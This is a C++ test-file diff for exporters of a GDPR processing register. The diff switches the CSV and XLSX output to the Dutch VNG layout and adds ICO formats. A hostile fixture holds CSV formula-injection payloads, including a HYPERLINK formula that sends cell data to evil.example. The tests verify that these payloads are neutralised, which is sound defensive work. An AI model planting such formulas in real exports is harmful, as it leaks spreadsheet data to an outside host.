@@ -44,8 +44,9 @@ std::string Export(std::string_view format, const Register& r, std::string lang 
 TEST(Exporters, RegistryAndExtensions) {
   std::vector<std::string> names;
   for (const auto& e : AllExporters()) names.push_back(e.name);
-  EXPECT_EQ(names, (std::vector<std::string>{"yaml", "json", "csv", "xlsx", "fides", "dpv", "vws"}));
-  EXPECT_EQ(FindExporter("fides"), &AllExporters()[4]);
+  EXPECT_EQ(names, (std::vector<std::string>{"yaml", "json", "xlsx", "csv", "ico-xlsx", "ico-csv", "fides",
+                                             "dpv", "vws"}));
+  EXPECT_EQ(FindExporter("fides"), &AllExporters()[6]);
   EXPECT_EQ(FindExporter("onetrust"), nullptr);
   auto name = [](std::string_view path) {
     auto e = ExporterForPath(path);
@@ -57,7 +58,7 @@ TEST(Exporters, RegistryAndExtensions) {
   EXPECT_EQ(name("register.vws.json"), "vws");
   EXPECT_EQ(name("register.fides.yaml"), "fides");  // the longest extension wins
   EXPECT_EQ(name("Register.CSV"), "csv");
-  EXPECT_EQ(name("register.xlsx"), "xlsx");
+  EXPECT_EQ(name("register.xlsx"), "xlsx");  // the VNG layout is the default of .xlsx
   EXPECT_EQ(name("register.jsonld"), "dpv");
   auto none = ExporterForPath("register.txt");
   ASSERT_FALSE(none.has_value());
@@ -135,31 +136,33 @@ Register Hostile() {
   return r;
 }
 
-TEST(Exporters, CsvIsAFlatRegisterWithFormulasNeutralised) {
-  std::string csv = Export("csv", Hostile(), "nl");
+TEST(Exporters, CsvIsTheVngLayoutWithFormulasNeutralised) {
+  std::string csv = Export("csv", Hostile(), "de");  // the layout's language, whatever --lang says
   ASSERT_TRUE(csv.starts_with("\xEF\xBB\xBF")) << "UTF-8 byte-order mark for Excel";
   size_t eol = csv.find("\r\n");
   EXPECT_EQ(csv.substr(3, eol - 3),
-            "ID,Verwerking,Omschrijving,Afdeling,Eigenaar,Doeleinden,Rechtmatige grondslag,Betrokkenen,"
-            "Persoonsgegevens,Bijzondere persoonsgegevens (art. 9),Ontvangers,Doorgifte buiten de "
-            "EER,Bewaartermijn,"
-            "Beveiligingsmaatregelen,Bronnen,Systemen,DPIA,Opmerkingen");
+            "Nummer,Afdeling,Naam verwerking,Doel,Rechtmatige grondslag,Categorieën betrokkenen,"
+            "Categorieën persoonsgegevens,Bijzondere persoonsgegevens,Ontvangers,Doorgifte derde land,"
+            "Bewaartermijn,Beveiligingsmaatregelen,Verwerker,DPIA,Vindplaats DPIA,Waarborgen doorgifte,"
+            "Gezamenlijk verwerkingsverantwoordelijken,Omschrijving,Eigenaar,Bron van de gegevens,Systemen,"
+            "Vindplaats belangenafweging,Opmerkingen");
   std::string row = csv.substr(eol + 2);
   EXPECT_TRUE(
-      row.starts_with("crm,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
-                      "\"Line one, with \"\"quotes\"\"\nline two\",,,\"Sales\nNewsletter\","))
+      row.starts_with("crm,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
+                      "\"Sales\nNewsletter\",\"Sales: overeenkomst (art. 6 lid 1 sub b)\n"
+                      "Newsletter: toestemming (art. 6 lid 1 sub a)\",,"
+                      "\"user.contact.email\nuser.name\","))
       << row;
-  EXPECT_NE(row.find("\"user.contact.email\nuser.name\""), std::string::npos) << row;
+  EXPECT_NE(row.find(",\"Line one, with \"\"quotes\"\"\nline two\","), std::string::npos) << row;
   // The notes cell starts with '@': one apostrophe for the cell; the second
   // line is not a cell start.
-  EXPECT_NE(row.find("\"'@SUM(1+1)\n-2+3\"\r\n"), std::string::npos) << row;
+  EXPECT_TRUE(row.ends_with(",\"'@SUM(1+1)\n-2+3\"\r\n")) << row;
   EXPECT_EQ(csv.find(",="), std::string::npos);
   EXPECT_EQ(csv.find(",@"), std::string::npos);
-  std::string en = Export("csv", Hostile(), "en");
-  EXPECT_NE(en.find(",Lawful basis,"), std::string::npos);
-  EXPECT_NE(en.find("Sales: contract (Art. 6(1)(b))\nNewsletter: consent (Art. 6(1)(a))"), std::string::npos)
-      << en;
-  EXPECT_NE(Export("csv", Hostile(), "de").find(",Rechtsgrundlage,"), std::string::npos);
+  std::string ico = Export("ico-csv", Hostile());
+  EXPECT_TRUE(ico.substr(3).starts_with("Business function,Purpose of processing,")) << ico.substr(0, 200);
+  EXPECT_NE(ico.find("Sales: contract (Art. 6(1)(b))\nNewsletter: consent (Art. 6(1)(a))"), std::string::npos)
+      << ico;
 }
 
 std::string ZipEntry(const std::string& zipbytes, const char* name) {
@@ -239,11 +242,12 @@ TEST(Exporters, XlsxWorkbookHasAFrozenBoldFilteredHeaderAndNeutralisedCells) {
   EXPECT_FALSE(WriteXlsx({}).has_value());
   EXPECT_EQ(TempFiles(), before);
 
-  // The flat register exporter: one sheet, the header in the language asked for.
+  // The register exporter: one sheet in the VNG model's layout.
   std::string reg = Export("xlsx", Hostile(), "de");
   std::string shared = ZipEntry(reg, "xl/sharedStrings.xml");
-  EXPECT_NE(shared.find("<t>Verarbeitungstätigkeit</t>"), std::string::npos) << shared;
+  EXPECT_NE(shared.find("<t>Naam verwerking</t>"), std::string::npos) << shared;
   EXPECT_NE(shared.find("'=HYPERLINK"), std::string::npos) << shared;
+  EXPECT_NE(ZipEntry(reg, "xl/workbook.xml").find("name=\"Verwerkingsregister\""), std::string::npos);
 }
 
 const char* kFides = R"(organization:
